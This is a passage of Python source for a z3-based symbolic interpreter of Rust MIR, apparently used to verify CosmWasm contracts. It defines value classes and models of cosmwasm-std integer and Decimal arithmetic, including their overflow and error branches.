            if isinstance(v, Str) and (v.s is not None or v.parts is not None) and conc.string(v) != b['value']:
                mism.append('attribute %s predicted %s real %s' % (b['key'], conc.string(v), b['value']))
        pd = ok.fields[3]
        if pd.variant == 'Some':
            try:
                pj = sd.tj(conc.val(pd.fields[0].fields[0].payload)) if isinstance(pd.fields[0].fields[0], Opaque) and pd.fields[0].fields[0].tag == 'json' else None
                rj = json.loads(base64.b64decode(res['response']['data'])) if res['response'].get('data') else None
                if pj is not None and pj != rj: mism.append('response data predicted %s real %s' % (pj, rj))
            except Exception as e:
                mism.append('response data not comparable: %r' % (e,))
        elif res['response'].get('data'): mism.append('response data predicted None, real some')
        # storage afterwards
        ps = {k: v for k, v in storage_dump(prog, path.world, conc)}
        rs = {k: v for k, v in real['storage_after']}
        for k in sorted(set(ps) | set(rs)):
            if ps.get(k) != rs.get(k):
                mism.append('storage %s: predicted %s real %s' % (bytes.fromhex(k), json.dumps(ps.get(k))[:300], json.dumps(rs.get(k))[:300]))
    else:
        # query: compare data
        try:
            pj = sd.tj(conc.val(ok.fields[0].payload if isinstance(ok, Agg) and ok.name == CS + 'Binary' else ok))
            if pj != res['response'].get('data'): mism.append('query data predicted %s real %s' % (json.dumps(pj)[:400], json.dumps(res['response'].get('data'))[:400]))
        except Exception as e:
            mism.append('query result not comparable: %r' % (e,))
    return mism
