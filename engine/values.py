"""Value domain of the MIR symbolic interpreter."""
import z3


class Unsupported(Exception):
    pass


class BoundExceeded(Exception):
    pass


class PathPruned(Exception):
    pass


class LoopBack(Exception):
    """the abstracted loop took its back edge: carries the values of the observed locals at the second visit of the header."""
    def __init__(self, fn, values):
        Exception.__init__(self, 'loop back edge of ' + fn); self.fn = fn; self.values = values


class PanicPath(Exception):
    def __init__(self, msg, where=''):
        Exception.__init__(self, msg)
        self.msg = msg; self.where = where


class Agg:
    """struct / tuple / array / newtype.  name is the (generics-stripped) type path, 'tuple' or 'array'."""
    __slots__ = ('name', 'fields')
    def __init__(self, name, fields): self.name = name; self.fields = fields
    def __repr__(self): return '%s%r' % (self.name.split('::')[-1], self.fields)


class Enum:
    __slots__ = ('name', 'variant', 'fields')
    def __init__(self, name, variant, fields): self.name = name; self.variant = variant; self.fields = fields
    def __repr__(self): return '%s::%s%r' % (self.name.split('::')[-1], self.variant, self.fields if self.fields else '')


class Ref:
    __slots__ = ('obj', 'key')
    def __init__(self, obj, key): self.obj = obj; self.key = key
    def get(self): return self.obj[self.key]
    def set(self, v): self.obj[self.key] = v
    def __repr__(self): return '&%r' % (self.get(),)


class Str:
    """string: concrete (s is a python str) or symbolic atom (sym is a z3 Int identity; supports only equality/clone).
    Concrete strings are interned to integer identities >= 0 below 2**20; symbolic atoms range over all ints, so a
    symbolic atom may equal any concrete string or none."""
    __slots__ = ('s', 'sym', 'parts', 'canon')
    INTERN = {}
    def __init__(self, s=None, sym=None, num=None, parts=None, canon=None):
        # canon: True = these are the bytes of the canonical form of the address named s / sym (the canonicalisation is an abstract
        # injection; the MockApi one is applied when bytes are needed); a list of Str = concatenation of such segments
        self.canon = canon
        # parts: for a symbolic text, what it renders: list of str | ('int', term) | ('dec', term) | Str (a symbolic atom)
        self.s = s; self.sym = sym; self.parts = parts if parts is not None else ([num] if num is not None else None)
    @property
    def num(self):
        if self.parts is not None and len(self.parts) == 1 and isinstance(self.parts[0], tuple): return self.parts[0]
        return None
    def ident(self):
        if self.sym is not None: return self.sym
        k = Str.INTERN.get(self.s)
        if k is None:
            k = len(Str.INTERN); Str.INTERN[self.s] = k
        return z3.IntVal(k)
    def __repr__(self): return 'Str(%r)' % (self.s,) if self.sym is None else 'Str<%s>' % self.sym


def mock_canonicalize(s):
    """cosmwasm_std::testing::MockApi::addr_canonicalize (1.5): pad to 90, rotate, 10 riffle shuffles."""
    out = list(s.lower().encode()) + [0] * (90 - len(s.encode()))
    rot = sum(out) % 90
    out = out[rot:] + out[:rot]
    for _ in range(10):
        mid = len(out) // 2; l, r = out[:mid], out[mid:]
        nxt = []
        for i in range(mid): nxt.append(r[i]); nxt.append(l[i])
        out = nxt
    return bytes(out)


def raw_bytes(x):
    """bytes of a concrete Str (canonical segments expanded with the MockApi canonicalisation)."""
    if x.canon is True: return mock_canonicalize(x.s)
    if x.canon: return b''.join(raw_bytes(y) for y in x.canon)
    return x.s.encode()


class VecV:
    __slots__ = ('items',)
    def __init__(self, items): self.items = items
    def __repr__(self): return 'Vec%r' % (self.items,)


class MapV:
    """BTreeMap / HashMap with concrete shape: list of [key, value] pairs kept in insertion (BTree: key) order."""
    __slots__ = ('kind', 'pairs')
    def __init__(self, kind, pairs): self.kind = kind; self.pairs = pairs
    def __repr__(self): return '%s%r' % (self.kind, self.pairs)


class Opaque:
    __slots__ = ('tag', 'payload')
    def __init__(self, tag, payload=None): self.tag = tag; self.payload = payload
    def __repr__(self): return 'Opaque(%s,%r)' % (self.tag, self.payload)


class FnItem:
    __slots__ = ('name',)
    def __init__(self, name): self.name = name
    def __repr__(self): return 'FnItem(%s)' % self.name


class Closure:
    __slots__ = ('defname', 'fields', 'span')
    name = 'closure'
    def __init__(self, defname, caps, span=None): self.defname = defname; self.fields = caps; self.span = span
    def __repr__(self): return 'Closure(%s,%r)' % (self.defname, self.fields)


def dup(v):
    if isinstance(v, Agg): return Agg(v.name, [dup(x) for x in v.fields])
    if isinstance(v, Enum): return Enum(v.name, v.variant, [dup(x) for x in v.fields])
    if isinstance(v, VecV): return VecV([dup(x) for x in v.items])
    if isinstance(v, MapV): return MapV(v.kind, [[dup(k), dup(x)] for k, x in v.pairs])
    if isinstance(v, Closure): return Closure(v.defname, [dup(x) for x in v.fields], v.span)
    if isinstance(v, Opaque): return Opaque(v.tag, dup(v.payload))
    if isinstance(v, list): return [dup(x) for x in v]
    if isinstance(v, tuple): return tuple(dup(x) for x in v)
    return v  # ints, z3 terms, Str (immutable), Ref (aliasing preserved), None, iterators


def deref(v):
    while isinstance(v, Ref): v = v.get()
    return v


def is_sym(x): return isinstance(x, z3.ExprRef)


def UNIT(): return Agg('tuple', [])
def OK(v): return Enum('std::result::Result', 'Ok', [v])
def ERR(e): return Enum('std::result::Result', 'Err', [e])
def SOME(v): return Enum('std::option::Option', 'Some', [v])
def NONE(): return Enum('std::option::Option', 'None', [])
def U64(t): return Agg('cosmwasm_std::Uint64', [t])
def U128(t): return Agg('cosmwasm_std::Uint128', [t])
def U256(t): return Agg('cosmwasm_std::Uint256', [t])
def U512(t): return Agg('cosmwasm_std::Uint512', [t])
def DEC(t): return Agg('cosmwasm_std::Decimal', [t])        # atomics (value * 10^18)
def DEC256(t): return Agg('cosmwasm_std::Decimal256', [t])
def ADDR(s): return Agg('cosmwasm_std::Addr', [s if isinstance(s, Str) else Str(s)])
def TS(n): return Agg('cosmwasm_std::Timestamp', [U64(n)])
def COIN(denom, amount): return Agg('cosmwasm_std::Coin', [denom if isinstance(denom, Str) else Str(denom), U128(amount)])
E18 = 10 ** 18

INTBITS = {'u8': 8, 'u16': 16, 'u32': 32, 'u64': 64, 'u128': 128, 'usize': 64,
           'i8': 8, 'i16': 16, 'i32': 32, 'i64': 64, 'i128': 128, 'isize': 64}
SIGNED = {'i8', 'i16', 'i32', 'i64', 'i128', 'isize'}


def zint(x): return x if is_sym(x) else z3.IntVal(x)


def zbool(x): return x if is_sym(x) else z3.BoolVal(bool(x))


def zand(*xs):
    xs = [x for x in xs if not (isinstance(x, bool) and x)]
    if any(isinstance(x, bool) and not x for x in xs): return False
    if not xs: return True
    return z3.And(*xs) if len(xs) > 1 else xs[0]


def zor(*xs):
    xs = [x for x in xs if not (isinstance(x, bool) and not x)]
    if any(isinstance(x, bool) and x for x in xs): return True
    if not xs: return False
    return z3.Or(*xs) if len(xs) > 1 else xs[0]


def znot(x): return (not x) if isinstance(x, bool) else z3.Not(x)


def zite(c, a, b):
    if isinstance(c, bool): return a if c else b
    return z3.If(c, zint(a) if not isinstance(a, bool) and not (is_sym(a) and z3.is_bool(a)) else zbool(a),
                 zint(b) if not isinstance(b, bool) and not (is_sym(b) and z3.is_bool(b)) else zbool(b))


def zmin(a, b):
    if not is_sym(a) and not is_sym(b): return min(a, b)
    return z3.If(zint(a) <= zint(b), zint(a), zint(b))


def zmax(a, b):
    if not is_sym(a) and not is_sym(b): return max(a, b)
    return z3.If(zint(a) >= zint(b), zint(a), zint(b))
