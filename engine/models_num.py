"""Models of cosmwasm-std 1.5.4 numerics (Uint64/128/256/512, Decimal, Decimal256, Timestamp) and core integer methods.
Every operation is its mathematical definition over integers plus the overflow / zero behaviour of the real library,
expressed as an explicit branch: `checked_*` -> Err value, operators / from_ratio / multiply_ratio -> panic."""
import re
import z3
from .values import *
from .core import model, defmodel, MODELS, DEF_MODELS, CONSTS, norm

UBITS = {'Uint64': 64, 'Uint128': 128, 'Uint256': 256, 'Uint512': 512}
DBITS = {'Decimal': 128, 'Decimal256': 256}
CS = 'cosmwasm_std::'


def u(v):
    v = deref(v)
    if isinstance(v, Agg): return v.fields[0]
    return v


def mkU(ty, t): return Agg(CS + ty, [t])
def tyname(v): return deref(v).name.split('::')[-1]


def err_overflow(op=''): return Agg('cosmwasm_std::OverflowError', [Opaque('op', op), Str('?'), Str('?')])
def err_divzero(): return Agg('cosmwasm_std::DivideByZeroError', [Str('?')])
def err_conv(): return Agg('cosmwasm_std::ConversionOverflowError', [Str('?'), Str('?'), Str('?')])


def guard(it, cond, msg):
    if not it.ctx.branch(cond, 'guard'): raise PanicPath(msg)


def in_range(r, bits): return zand(r >= 0, r < 2 ** bits) if is_sym(r) else (0 <= r < 2 ** bits)


def checked(it, r, bits, err, ty):
    if it.ctx.branch(in_range(r, bits), 'checked'): return OK(mkU(ty, r))
    return ERR(err)


# ---- unsigned wrappers --------------------------------------------------------------------------
for _ty, _bits in UBITS.items():
    def _mk(ty, bits):
        P = CS + ty + '::'
        MODELS[P + 'zero'] = lambda it, a, c: mkU(ty, 0)
        MODELS[P + 'one'] = lambda it, a, c: mkU(ty, 1)
        MODELS[P + 'new'] = lambda it, a, c: mkU(ty, a[0]) if not isinstance(deref(a[0]), Agg) else mkU(ty, _from_be(a[0]))
        MODELS[P + 'u128'] = MODELS[P + 'u64'] = lambda it, a, c: u(a[0])
        MODELS[P + 'is_zero'] = lambda it, a, c: u(a[0]) == 0
        MODELS[P + 'from_u128'] = MODELS[P + 'from_uint128'] = lambda it, a, c: mkU(ty, u(a[0]))
        MODELS[P + 'checked_add'] = lambda it, a, c: checked(it, u(a[0]) + u(a[1]), bits, err_overflow('Add'), ty)
        MODELS[P + 'checked_sub'] = lambda it, a, c: checked(it, u(a[0]) - u(a[1]), bits, err_overflow('Sub'), ty)
        MODELS[P + 'checked_mul'] = lambda it, a, c: checked(it, u(a[0]) * u(a[1]), bits, err_overflow('Mul'), ty)
        def cdiv(it, a, c):
            if it.ctx.branch(u(a[1]) == 0, 'div0'): return ERR(err_divzero())
            return OK(mkU(ty, it.ctx.div(u(a[0]), u(a[1]))))
        MODELS[P + 'checked_div'] = MODELS[P + 'checked_div_euclid'] = cdiv
        def crem(it, a, c):
            if it.ctx.branch(u(a[1]) == 0, 'div0'): return ERR(err_divzero())
            return OK(mkU(ty, it.ctx.rem(u(a[0]), u(a[1]))))
        MODELS[P + 'checked_rem'] = crem
        def cpow(it, a, c):
            e = a[1]
            if is_sym(e): raise Unsupported('symbolic exponent')
            return checked(it, u(a[0]) ** e, bits, err_overflow('Pow'), ty)
        MODELS[P + 'checked_pow'] = cpow
        def powp(it, a, c):
            e = a[1]
            if is_sym(e): raise Unsupported('symbolic exponent')
            r = u(a[0]) ** e
            guard(it, in_range(r, bits), 'attempt to multiply with overflow'); return mkU(ty, r)
        MODELS[P + 'pow'] = powp
        MODELS[P + 'saturating_sub'] = lambda it, a, c: mkU(ty, zmax(u(a[0]) - u(a[1]), 0))
        MODELS[P + 'saturating_add'] = lambda it, a, c: mkU(ty, zmin(u(a[0]) + u(a[1]), 2 ** bits - 1))
        MODELS[P + 'saturating_mul'] = lambda it, a, c: mkU(ty, zmin(u(a[0]) * u(a[1]), 2 ** bits - 1))
        MODELS[P + 'abs_diff'] = lambda it, a, c: mkU(ty, zite(u(a[0]) >= u(a[1]), u(a[0]) - u(a[1]), u(a[1]) - u(a[0])))
        def mulratio(it, a, c):
            n, d = u(a[1]), u(a[2])
            guard(it, d != 0, 'Denominator must not be zero')
            r = it.ctx.div(u(a[0]) * n, d)
            guard(it, in_range(r, bits), 'Multiplication overflow'); return mkU(ty, r)
        MODELS[P + 'multiply_ratio'] = mulratio
        def cmulratio(it, a, c):
            n, d = u(a[1]), u(a[2])
            if it.ctx.branch(d == 0, 'div0'): return ERR(Enum('cosmwasm_std::CheckedMultiplyRatioError', 'DivideByZero', []))
            r = it.ctx.div(u(a[0]) * n, d)
            if it.ctx.branch(in_range(r, bits), 'checked'): return OK(mkU(ty, r))
            return ERR(Enum('cosmwasm_std::CheckedMultiplyRatioError', 'Overflow', []))
        MODELS[P + 'checked_multiply_ratio'] = cmulratio
        MODELS[P + 'full_mul'] = lambda it, a, c: mkU({'Uint64': 'Uint128', 'Uint128': 'Uint256', 'Uint256': 'Uint512'}[ty], u(a[0]) * u(a[1]))
        def mul_floor(it, a, c):
            # Uint * (num/den) floor, panics on overflow / zero denominator
            f = deref(a[1]); num, den = frac_parts(f)
            r = it.ctx.div(u(a[0]) * num, den)
            guard(it, in_range(r, bits), 'ConversionOverflowError (mul_floor)'); return mkU(ty, r)
        MODELS[P + 'mul_floor'] = mul_floor
        def cmul_floor(it, a, c):
            f = deref(a[1]); num, den = frac_parts(f)
            r = it.ctx.div(u(a[0]) * num, den)
            if it.ctx.branch(in_range(r, bits), 'checked'): return OK(mkU(ty, r))
            return ERR(Enum('cosmwasm_std::CheckedMultiplyFractionError', 'ConversionOverflow', [err_conv()]))
        MODELS[P + 'checked_mul_floor'] = cmul_floor
        def cmul_ceil(it, a, c):
            f = deref(a[1]); num, den = frac_parts(f)
            q, rm = it.ctx.divmod(u(a[0]) * num, den)
            r = q + zite(rm == 0, 0, 1) if is_sym(rm) else q + (0 if rm == 0 else 1)
            if it.ctx.branch(in_range(r, bits), 'checked'): return OK(mkU(ty, r))
            return ERR(Enum('cosmwasm_std::CheckedMultiplyFractionError', 'ConversionOverflow', [err_conv()]))
        MODELS[P + 'checked_mul_ceil'] = cmul_ceil
        MODELS[P + 'isqrt'] = MODELS['<%s%s as cosmwasm_std::Isqrt>::isqrt' % (CS, ty)] = lambda it, a, c: mkU(ty, it.ctx.isqrt(u(a[0])))
        T = CS + ty
        def add(it, a, c):
            r = u(a[0]) + u(a[1]); guard(it, in_range(r, bits), 'attempt to add with overflow'); return mkU(ty, r)
        def sub(it, a, c):
            r = u(a[0]) - u(a[1]); guard(it, in_range(r, bits), 'attempt to subtract with overflow'); return mkU(ty, r)
        def mul(it, a, c):
            y = deref(a[1])
            if isinstance(y, Agg) and y.name.split('::')[-1] in DBITS:
                return mul_floor(it, a, c)
            r = u(a[0]) * u(a[1]); guard(it, in_range(r, bits), 'attempt to multiply with overflow'); return mkU(ty, r)
        def div(it, a, c):
            guard(it, u(a[1]) != 0, 'Division failed - denominator must not be zero' if False else 'attempt to divide by zero')
            return mkU(ty, it.ctx.div(u(a[0]), u(a[1])))
        def rem(it, a, c):
            guard(it, u(a[1]) != 0, 'attempt to calculate the remainder with a divisor of zero')
            return mkU(ty, it.ctx.rem(u(a[0]), u(a[1])))
        for self_ in (T, '&' + T):
            MODELS['<%s as std::ops::Add>::add' % self_] = add
            MODELS['<%s as std::ops::Sub>::sub' % self_] = sub
            MODELS['<%s as std::ops::Mul>::mul' % self_] = mul
            MODELS['<%s as std::ops::Div>::div' % self_] = div
            MODELS['<%s as std::ops::Rem>::rem' % self_] = rem
        def assign(op):
            def f(it, a, c):
                r = op(it, [deref(a[0]), a[1]], c); a[0].set(r); return UNIT()
            return f
        MODELS['<%s as std::ops::AddAssign>::add_assign' % T] = assign(add)
        MODELS['<%s as std::ops::SubAssign>::sub_assign' % T] = assign(sub)
        MODELS['<%s as std::ops::MulAssign>::mul_assign' % T] = assign(mul)
        MODELS['<%s as std::ops::DivAssign>::div_assign' % T] = assign(div)
        MODELS['<%s as std::default::Default>::default' % T] = lambda it, a, c: mkU(ty, 0)
        MODELS['<%s as std::iter::Sum>::sum' % T] = None
        del MODELS['<%s as std::iter::Sum>::sum' % T]
        CONSTS[P + 'MAX'] = mkU(ty, 2 ** bits - 1)
        CONSTS[P + 'MIN'] = mkU(ty, 0)
        CONSTS['<%s>::MAX' % T] = mkU(ty, 2 ** bits - 1)
    _mk(_ty, _bits)


def _from_be(arr):
    arr = deref(arr); n = 0
    for b in arr.fields: n = n * 256 + b
    return n


def frac_parts(f):
    """(numerator, denominator) of a Fraction argument: Decimal / Decimal256 or a (num, den) tuple."""
    f = deref(f)
    if isinstance(f, Agg) and f.name.split('::')[-1] in DBITS: return f.fields[0], E18
    if isinstance(f, Agg) and f.name == 'tuple': return u(f.fields[0]), u(f.fields[1])
    raise Unsupported('fraction %r' % (f,))


# ---- comparisons for all numeric newtypes ----------------------------------------------------------
def _cmp(op):
    def f(it, a, c):
        x, y = u(a[0]), u(a[1])
        return {'lt': x < y, 'le': x <= y, 'gt': x > y, 'ge': x >= y, 'eq': x == y, 'ne': x != y}[op]
    return f


def _ordering(it, x, y):
    if not is_sym(x) and not is_sym(y):
        return Enum('std::cmp::Ordering', 'Less' if x < y else ('Equal' if x == y else 'Greater'), [])
    i = it.ctx.choose([zint(x) < zint(y), zint(x) == zint(y), zint(x) > zint(y)], 'cmp')
    return Enum('std::cmp::Ordering', ['Less', 'Equal', 'Greater'][i], [])


for _ty in list(UBITS) + list(DBITS) + ['Timestamp']:
    T = CS + _ty
    for _op in ('lt', 'le', 'gt', 'ge'):
        MODELS['<%s as std::cmp::PartialOrd>::%s' % (T, _op)] = _cmp(_op)
    for _op in ('eq', 'ne'):
        MODELS['<%s as std::cmp::PartialEq>::%s' % (T, _op)] = _cmp(_op)
        MODELS['<&%s as std::cmp::PartialEq>::%s' % (T, _op)] = _cmp(_op)
    MODELS['<%s as std::cmp::Ord>::cmp' % T] = lambda it, a, c: _ordering(it, u(a[0]), u(a[1]))
    MODELS['<%s as std::cmp::PartialOrd>::partial_cmp' % T] = lambda it, a, c: SOME(_ordering(it, u(a[0]), u(a[1])))
    def _mm(T=T):
        MODELS['<%s as std::cmp::Ord>::min' % T] = lambda it, a, c: Agg(T, [zmin(u(a[0]), u(a[1]))]) if not T.endswith('Timestamp') else TS(zmin(u(u(a[0])), u(u(a[1]))))
        MODELS['<%s as std::cmp::Ord>::max' % T] = lambda it, a, c: Agg(T, [zmax(u(a[0]), u(a[1]))]) if not T.endswith('Timestamp') else TS(zmax(u(u(a[0])), u(u(a[1]))))
    _mm()
# Timestamp wraps Uint64: comparisons above use u() once -> a Uint64 Agg; fix by unwrapping twice
def _ts(v): return u(u(v))
for _op in ('lt', 'le', 'gt', 'ge', 'eq', 'ne'):
    def _mkts(op):
        def f(it, a, c):
            x, y = _ts(a[0]), _ts(a[1])
            return {'lt': x < y, 'le': x <= y, 'gt': x > y, 'ge': x >= y, 'eq': x == y, 'ne': x != y}[op]
        return f
    tr = 'PartialOrd' if _op in ('lt', 'le', 'gt', 'ge') else 'PartialEq'
    MODELS['<cosmwasm_std::Timestamp as std::cmp::%s>::%s' % (tr, _op)] = _mkts(_op)
MODELS['<cosmwasm_std::Timestamp as std::cmp::Ord>::cmp'] = lambda it, a, c: _ordering(it, _ts(a[0]), _ts(a[1]))
MODELS['<cosmwasm_std::Timestamp as std::cmp::PartialOrd>::partial_cmp'] = lambda it, a, c: SOME(_ordering(it, _ts(a[0]), _ts(a[1])))

# ---- conversions ---------------------------------------------------------------------------------
def _conv_into(it, a, c):
    """<A as Into<B>>::into / <B as From<A>>::from for numeric types, decided from the instance string."""
    inst = c.inst
    m = re.match(r'^<(.+) as std::convert::(Into|From)<(.+)>>::(into|from)$', inst)
    if not m: raise Unsupported('conversion ' + inst)
    src, dst = (m.group(1), m.group(3)) if m.group(2) == 'Into' else (m.group(3), m.group(1))
    return convert(it, a[0], src, dst, c)


def convert(it, v, src, dst, c=None):
    src = src.strip(); dst = dst.strip()
    sname = src.split('::')[-1]; dname = dst.split('::')[-1]
    if src == dst: return v
    if dname in UBITS:
        x = u(v) if isinstance(deref(v), Agg) else v
        if isinstance(x, bool): x = int(x)
        return mkU(dname, x)
    if dname in DBITS and sname in DBITS: return Agg(CS + dname, [u(v)])
    if dname in DBITS and sname in UBITS:   # Decimal::from(Uint) does not exist in 1.5; keep explicit
        raise Unsupported('conversion %s -> %s' % (src, dst))
    if dst in INTBITS:
        x = u(v) if isinstance(deref(v), Agg) else v
        return x
    if dname == 'Timestamp': return v
    fn = CONVERSIONS.get((norm(src), norm(dst)))
    if fn is not None: return fn(it, v)
    raise Unsupported('conversion %s -> %s' % (src, dst))


CONVERSIONS = {}


def _try_from(it, a, c):
    inst = c.inst
    m = re.match(r'^<(.+) as std::convert::(TryInto|TryFrom)<(.+)>>::(try_into|try_from)$', inst)
    if m:
        src, dst = (m.group(1), m.group(3)) if m.group(2) == 'TryInto' else (m.group(3), m.group(1))
    else:
        m = re.search(r'<impl std::convert::TryFrom<(.+)> for (.+)>::try_from$', inst)
        if not m: raise Unsupported('try conversion ' + inst)
        src, dst = m.group(1), m.group(2)
    dname = dst.split('::')[-1].strip()
    ma = re.match(r'^\[(.+); (\d+)\]$', dst.strip())
    if ma and isinstance(deref(a[0]), VecV):             # Vec<T> -> [T; N]: Ok iff the length is N, Err gives the vector back
        v = deref(a[0])
        if len(v.items) == int(ma.group(2)): return OK(Agg('array', list(v.items)))
        return ERR(v)
    x = u(a[0]) if isinstance(deref(a[0]), Agg) else a[0]
    if dname in UBITS:
        bits = UBITS[dname]
        if it.ctx.branch(in_range(x, bits), 'tryfrom'): return OK(mkU(dname, x))
        return ERR(err_conv())
    if dname in INTBITS:
        bits = INTBITS[dname]
        if it.ctx.branch(in_range(x, bits), 'tryfrom'): return OK(x)
        return ERR(Opaque('TryFromIntError'))
    raise Unsupported('try conversion ' + inst)


for _ty in list(UBITS) + list(DBITS):
    T = CS + _ty
    MODELS['<%s as std::convert::Into>::into' % T] = _conv_into
    MODELS['<%s as std::convert::From>::from' % T] = _conv_into
    MODELS['<%s as std::convert::TryInto>::try_into' % T] = _try_from
    MODELS['<%s as std::convert::TryFrom>::try_from' % T] = _try_from
for _m in ('uint64', 'uint128', 'uint256', 'uint512'):
    for _src in ('Uint64', 'Uint128', 'Uint256', 'Uint512'):
        for _dst in ('Uint64', 'Uint128', 'Uint256', 'Uint512'):
            MODELS['cosmwasm_std::math::%s::<impl std::convert::TryFrom for cosmwasm_std::%s>::try_from' % (_m, _dst)] = _try_from
for _t in INTBITS:
    MODELS['<%s as std::convert::Into>::into' % _t] = _conv_into
    MODELS['<%s as std::convert::From>::from' % _t] = _conv_into
    MODELS['<%s as std::convert::TryInto>::try_into' % _t] = _try_from
    MODELS['<%s as std::convert::TryFrom>::try_from' % _t] = _try_from
    MODELS['std::convert::num::<impl std::convert::From for %s>::from' % _t] = lambda it, a, c: int(a[0]) if isinstance(a[0], bool) else a[0]
    MODELS['std::convert::num::<impl std::convert::TryFrom for %s>::try_from' % _t] = _try_from

# ---- Decimal / Decimal256 ----------------------------------------------------------------------------
for _ty, _bits in DBITS.items():
    def _mkd(ty, bits):
        P = CS + ty + '::'; T = CS + ty
        UT = 'Uint128' if bits == 128 else 'Uint256'
        D = lambda t: Agg(T, [t])
        MODELS[P + 'zero'] = lambda it, a, c: D(0)
        MODELS[P + 'one'] = lambda it, a, c: D(E18)
        MODELS[P + 'percent'] = lambda it, a, c: D(a[0] * 10 ** 16)
        MODELS[P + 'permille'] = lambda it, a, c: D(a[0] * 10 ** 15)
        MODELS[P + 'bps'] = lambda it, a, c: D(a[0] * 10 ** 14)
        MODELS[P + 'new'] = lambda it, a, c: D(u(a[0]))
        MODELS[P + 'raw'] = lambda it, a, c: D(a[0])
        MODELS[P + 'atomics'] = MODELS['<%s as cosmwasm_std::Fraction>::numerator' % T] = MODELS[P + 'numerator'] = lambda it, a, c: mkU(UT, u(a[0]))
        MODELS['<%s as cosmwasm_std::Fraction>::denominator' % T] = MODELS[P + 'denominator'] = lambda it, a, c: mkU(UT, E18)
        MODELS[P + 'decimal_places'] = lambda it, a, c: 18
        MODELS[P + 'is_zero'] = lambda it, a, c: u(a[0]) == 0
        MODELS[P + 'floor'] = lambda it, a, c: D(it.ctx.div(u(a[0]), E18) * E18)
        MODELS[P + 'to_uint_floor'] = lambda it, a, c: mkU(UT, it.ctx.div(u(a[0]), E18))
        def to_uint_ceil(it, a, c):
            q, r = it.ctx.divmod(u(a[0]), E18)
            return mkU(UT, q + (zite(r == 0, 0, 1) if is_sym(r) else (0 if r == 0 else 1)))
        MODELS[P + 'to_uint_ceil'] = to_uint_ceil
        def from_ratio(it, a, c):
            n, d = unum(a[0]), unum(a[1])
            guard(it, d != 0, 'Denominator must not be zero')
            r = it.ctx.div(n * E18, d)
            guard(it, in_range(r, bits), 'Multiplication overflow'); return D(r)
        MODELS[P + 'from_ratio'] = from_ratio
        def checked_from_ratio(it, a, c):
            n, d = unum(a[0]), unum(a[1])
            if it.ctx.branch(d == 0, 'div0'): return ERR(Enum('cosmwasm_std::CheckedFromRatioError', 'DivideByZero', []))
            r = it.ctx.div(n * E18, d)
            if it.ctx.branch(in_range(r, bits), 'checked'): return OK(D(r))
            return ERR(Enum('cosmwasm_std::CheckedFromRatioError', 'Overflow', []))
        MODELS[P + 'checked_from_ratio'] = checked_from_ratio
        def from_atomics(it, a, c):
            at, places = unum(a[0]), a[1]
            if is_sym(places): raise Unsupported('symbolic decimal places')
            if places <= 18:
                r = at * 10 ** (18 - places)
                if it.ctx.branch(in_range(r, bits), 'checked'): return OK(D(r))
                return ERR(Agg('cosmwasm_std::DecimalRangeExceeded', []))
            f = 10 ** (places - 18)
            if f >= 2 ** bits: return OK(D(0))
            return OK(D(it.ctx.div(at, f)))
        MODELS[P + 'from_atomics'] = from_atomics
        MODELS[P + 'from_atomics::<impl Into>'] = from_atomics
        def dchecked(it, r, op):
            if it.ctx.branch(in_range(r, bits), 'checked'): return OK(D(r))
            return ERR(err_overflow(op))
        MODELS[P + 'checked_add'] = lambda it, a, c: dchecked(it, u(a[0]) + u(a[1]), 'Add')
        MODELS[P + 'checked_sub'] = lambda it, a, c: dchecked(it, u(a[0]) - u(a[1]), 'Sub')
        MODELS[P + 'checked_mul'] = lambda it, a, c: dchecked(it, it.ctx.div(u(a[0]) * u(a[1]), E18), 'Mul')
        def checked_div(it, a, c):
            n, d = u(a[0]), u(a[1])
            if it.ctx.branch(d == 0, 'div0'): return ERR(Enum('cosmwasm_std::CheckedFromRatioError', 'DivideByZero', []))
            r = it.ctx.div(n * E18, d)
            if it.ctx.branch(in_range(r, bits), 'checked'): return OK(D(r))
            return ERR(Enum('cosmwasm_std::CheckedFromRatioError', 'Overflow', []))
        MODELS[P + 'checked_div'] = checked_div
        def checked_pow(it, a, c):
            # exact replica of cosmwasm-std's square-and-multiply (each product floors at 18 decimals)
            n = a[1]
            if is_sym(n): raise Unsupported('symbolic exponent')
            x = u(a[0])
            if n == 0: return OK(D(E18))
            y = E18
            def cm(p, q):
                r = it.ctx.div(p * q, E18)
                if not it.ctx.branch(in_range(r, bits), 'checked'): raise _PowOverflow()
                return r
            try:
                while n > 1:
                    if n % 2 == 0:
                        x = cm(x, x); n //= 2
                    else:
                        y = cm(x, y); x = cm(x, x); n = (n - 1) // 2
                r = it.ctx.div(x * y, E18)
            except _PowOverflow:
                return ERR(err_overflow('Pow'))
            guard(it, in_range(r, bits), 'attempt to multiply with overflow')
            return OK(D(r))
        MODELS[P + 'checked_pow'] = checked_pow
        MODELS[P + 'saturating_sub'] = lambda it, a, c: D(zmax(u(a[0]) - u(a[1]), 0))
        MODELS[P + 'saturating_add'] = lambda it, a, c: D(zmin(u(a[0]) + u(a[1]), 2 ** bits - 1))
        MODELS[P + 'abs_diff'] = lambda it, a, c: D(zite(u(a[0]) >= u(a[1]), u(a[0]) - u(a[1]), u(a[1]) - u(a[0])))
        def inv(it, a, c):
            x = u(a[0])
            if it.ctx.branch(x == 0, 'inv0'): return NONE()
            return SOME(D(it.ctx.div(E18 * E18, x)))
        MODELS['<%s as cosmwasm_std::Fraction>::inv' % T] = MODELS[P + 'inv'] = inv
        def add(it, a, c):
            r = u(a[0]) + u(a[1]); guard(it, in_range(r, bits), 'attempt to add with overflow'); return D(r)
        def sub(it, a, c):
            r = u(a[0]) - u(a[1]); guard(it, in_range(r, bits), 'attempt to subtract with overflow'); return D(r)
        def mul(it, a, c):
            y = deref(a[1])
            if isinstance(y, Agg) and y.name.split('::')[-1] in UBITS:    # Decimal * Uint -> Uint (floor)
                yb = UBITS[y.name.split('::')[-1]]
                r = it.ctx.div(u(y) * u(a[0]), E18)
                guard(it, in_range(r, yb), 'ConversionOverflowError (mul_floor)'); return mkU(y.name.split('::')[-1], r)
            r = it.ctx.div(u(a[0]) * u(a[1]), E18)
            guard(it, in_range(r, bits), 'attempt to multiply with overflow'); return D(r)
        def div(it, a, c):
            y = deref(a[1])
            if isinstance(y, Agg) and y.name.split('::')[-1] in UBITS:    # Decimal / Uint -> Decimal
                guard(it, u(y) != 0, 'attempt to divide by zero')
                return D(it.ctx.div(u(a[0]), u(y)))
            n, d = u(a[0]), u(a[1])
            guard(it, d != 0, 'Division failed - denominator must not be zero')
            r = it.ctx.div(n * E18, d)
            guard(it, in_range(r, bits), 'Division failed - multiplication overflow'); return D(r)
        for self_ in (T, '&' + T):
